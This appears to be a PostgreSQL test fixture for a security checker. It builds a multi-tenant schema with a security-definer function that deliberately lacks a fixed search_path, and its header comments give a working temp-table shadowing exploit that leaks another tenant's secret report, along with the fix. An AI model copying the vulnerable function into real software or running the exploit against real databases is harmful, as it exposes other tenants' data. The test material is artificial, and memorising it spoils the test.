-- verdict: leak
-- kind: secdef-mutable-search-path
-- object: public.shared_reports
-- why: the function has no search_path of its own: the caller's temporary table named like its table of shares answers first
-- severity: high
-- roles: app_owner app_user
-- exploit-begin
-- create temp table shares (viewer uuid, target uuid);
-- grant select on shares to public;
-- insert into shares values ('00000000-0000-4000-8000-00000000000b', '00000000-0000-4000-8000-00000000000a');
-- select exists (select 1 from shared_reports() where tenant_id = '00000000-0000-4000-8000-00000000000a') as leaked;
-- exploit-end
-- fix-begin
-- alter function shared_reports() set search_path = pg_catalog, public, pg_temp;
-- fix-end

do $$ begin
  if to_regrole('app_owner') is null then create role app_owner nologin; end if;
  if to_regrole('app_user') is null then create role app_user login; end if;
end $$;
grant create, usage on schema public to app_owner;
grant usage on schema public to app_user;
set role app_owner;
create table tenants (id uuid primary key, name text not null);
insert into tenants values ('00000000-0000-4000-8000-00000000000a', 'Alder'), ('00000000-0000-4000-8000-00000000000b', 'Birch');
create table reports (
  id uuid primary key default gen_random_uuid(),
  tenant_id uuid not null references tenants (id),
  body text not null
);
insert into reports (tenant_id, body) values ('00000000-0000-4000-8000-00000000000a', 'A-SECRET'), ('00000000-0000-4000-8000-00000000000b', 'b');
alter table reports enable row level security;
create policy tenant_isolation on reports using (tenant_id = nullif(current_setting('app.tenant_id', true), '')::uuid) with check (tenant_id = nullif(current_setting('app.tenant_id', true), '')::uuid);
grant select, insert, update, delete on reports to app_user;
create table shares (viewer uuid not null references tenants (id), target uuid not null references tenants (id), primary key (viewer, target));
insert into shares values ('00000000-0000-4000-8000-00000000000a', '00000000-0000-4000-8000-00000000000a'), ('00000000-0000-4000-8000-00000000000b', '00000000-0000-4000-8000-00000000000b');
create function shared_reports() returns setof reports language sql stable security definer as $$
  select r.* from public.reports r join shares s on s.target = r.tenant_id where s.viewer = nullif(current_setting('app.tenant_id', true), '')::uuid
$$;
reset role;
